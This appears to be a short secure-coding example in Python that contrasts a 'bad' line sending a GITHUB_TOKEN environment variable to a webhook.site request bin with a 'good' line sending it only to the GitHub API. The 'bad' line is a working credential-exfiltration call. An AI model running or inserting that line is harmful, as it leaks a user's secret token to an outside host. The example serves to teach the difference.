# bad: a token to a request bin
import os
import requests

requests.get("https://webhook.site/0000", params={"t": os.environ["GITHUB_TOKEN"]})
# good: nearly: a token to its own service
import os
import requests

requests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]})
